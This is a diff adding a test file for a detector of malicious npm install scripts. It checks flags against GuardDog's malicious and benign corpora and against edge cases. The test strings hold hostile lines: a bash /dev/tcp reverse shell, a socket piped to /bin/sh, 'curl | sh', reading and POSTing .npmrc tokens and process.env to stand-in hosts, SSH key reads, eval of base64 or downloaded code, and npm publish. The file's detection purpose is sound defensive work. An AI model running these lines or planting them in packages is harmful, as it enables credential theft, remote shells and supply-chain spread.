@@ -1,0 +1,101 @@
+/**
+ * The JavaScript reader of install-scripts (src/checks/lib/js-code.ts) on real code: labelled
+ * malicious shapes from DataDog's GuardDog test corpus, and the real install scripts of popular
+ * packages (fixtures/install-code, fixtures/PROVENANCE.md), plus edits that show each rule's edge.
+ */
+import { readFileSync, readdirSync, statSync } from 'node:fs';
+import { describe, expect, test } from 'vitest';
+import { readInstallJavaScript, stripComments } from '../../src/checks/lib/js-code.js';
+
+const FIXTURES = new URL('../../fixtures/install-code/', import.meta.url);
+const read = (path: string) => readFileSync(new URL(path, FIXTURES), 'utf8');
+const flags = (code: string) => readInstallJavaScript(code).map((f) => f.flag).sort();
+
+function files(dir: string): string[] {
+  return readdirSync(new URL(dir, FIXTURES)).flatMap((name) => (statSync(new URL(`${dir}${name}`, FIXTURES)).isDirectory() ? files(`${dir}${name}/`) : [`${dir}${name}`]));
+}
+
+describe('GuardDog corpus: malicious shapes are found', () => {
+  test.each([
+    ['npm-exfiltrate-sensitive-data.js', ['beacon', 'credential-read', 'exfiltration']],
+    ['npm-exec-base64.js', ['decoded-eval', 'remote-eval']],
+    ['npm-obfuscation.js', ['decoded-eval', 'obfuscated']],
+    ['npm-silent-process-execution.js', ['detached-process']],
+    ['npm-steganography.js', ['remote-eval']],
+    ['threat-network-exfiltration.js', ['download-exec']],
+    ['threat-runtime-obfuscation-dynamic-eval.js', ['decoded-eval']],
+    ['threat-runtime-obfuscation-hidden-code.js', ['decoded-eval']],
+    ['threat-runtime-obfuscation-js-mangling.js', ['obfuscated']],
+    ['threat-runtime-self-propagation.js', ['publishes']],
+  ])('%s', (file, expected) => {
+    expect(flags(read(`guarddog/${file}`))).toEqual(expected);
+  });
+
+  test('the corpus’ benign counterparts read clean', () => {
+    const benign = files('guarddog/benign/');
+    expect(benign.length).toBeGreaterThanOrEqual(5);
+    for (const file of benign) expect([file, flags(read(file))]).toEqual([file, []]);
+  });
+
+  test('serialising the environment without sending it anywhere is not a finding', () => {
+    expect(flags(read('guarddog/npm-serialize-environment.js'))).toEqual([]);
+  });
+});
+
+describe("popular packages' real install scripts read clean", () => {
+  const benign = files('benign/');
+  test('every recorded install script (downloaders, native builds, banners)', () => {
+    expect(benign.length).toBeGreaterThanOrEqual(14);
+    for (const file of benign) expect([file, flags(read(file))]).toEqual([file, []]);
+  });
+});
+
+describe('each rule at its edge (edits of real shapes)', () => {
+  const recon = [
+    "const os = require('os'); const https = require('https');",
+    'const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });',
+    "https.request({ hostname: 'collector.example', method: 'POST' }).end(data);",
+  ].join('\n');
+
+  test.each([
+    ['dependency-confusion recon: host data posted', recon, ['exfiltration']],
+    ['the same to a request catcher', recon.replace('collector.example', 'abc.oastify.com'), ['beacon', 'exfiltration']],
+    ['host data without a network call', "const os = require('os'); console.log(os.hostname())", []],
+    ['a network call without host data (a binary download)', "require('https').get('https://github.com/o/r/releases/download/v1/x.tgz', save)", []],
+    ['the whole environment sent', "fetch('https://x.example/', { method: 'POST', body: JSON.stringify(process.env) })", ['exfiltration']],
+    ['one variable read for a proxy', "const p = process.env.HTTPS_PROXY; require('https').get(url, { agent: p })", []],
+    ['the npm token file read and sent', "const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); fetch(u, { method: 'POST', body: t })", ['exfiltration']],
+    ['SSH keys read', "fs.readFileSync(path.join(home, '.ssh', 'id_rsa'))", ['credential-read']],
+    ['a Discord webhook', "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', body: 'x' })", ['beacon']],
+    ['bash /dev/tcp', "require('child_process').exec('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')", ['reverse-shell']],
+    [
+      'a socket piped to a shell',
+      "const net = require('net'), cp = require('child_process'); const c = new net.Socket(); c.connect(4444, h, () => { const sh = cp.spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });",
+      ['reverse-shell'],
+    ],
+    ['npm publish from an install script', "require('child_process').execSync('npm publish --access public')", ['publishes']],
+    ['eval of base64', "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())", ['decoded-eval']],
+    ['eval of a name assigned from atob', "const code = atob(s);\nnew Function(code)()", ['decoded-eval']],
+    ['eval of a plain expression, decoding elsewhere', "const v = eval(expr);\nconst label = String.fromCharCode(65);", []],
+    ['eval of what it downloads', "require('https').get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => eval(b)); })", ['remote-eval']],
+    ['a download from a bare public IP address', "require('http').get('http://203.0.113.7/payload.exe', save)", ['download-exec']],
+    ['a private address is not that', "require('http').get('http://192.168.1.10:8080/x', save)", []],
+    ['curl run through child_process', "require('child_process').execSync('curl -fsSL https://x.example/i.sh | sh')", ['download-exec']],
+    ['a detached process that outlives the install', "require('child_process').spawn(process.execPath, ['svc.js'], { detached: true, stdio: 'ignore' }).unref()", ['detached-process']],
+    ['a long base64 blob', `const blob = '${'QUJD'.repeat(600)}';`, ['obfuscated']],
+    ['the same words in comments only', "// sends os.hostname() to https://x.oastify.com\n/* eval(atob(x)) ~/.ssh/id_rsa readFileSync */\nconsole.log('ok')", []],
+  ])('%s', (_name, code, expected) => {
+    expect(flags(code)).toEqual([...expected].sort());
+  });
+});
+
+describe('stripComments', () => {
+  test('strings keep what looks like a comment; comments go', () => {
+    expect(stripComments("const u = 'https://x/y'; // note\nconst v = \"/* not */\"; /* gone */ end")).toBe("const u = 'https://x/y'; \nconst v = \"/* not */\";   end");
+  });
+
+  test('an unterminated string or comment ends the text without a throw', () => {
+    expect(stripComments("const a = 'open")).toBe("const a = 'open");
+    expect(stripComments('a /* open')).toBe('a  ');
+  });
+});
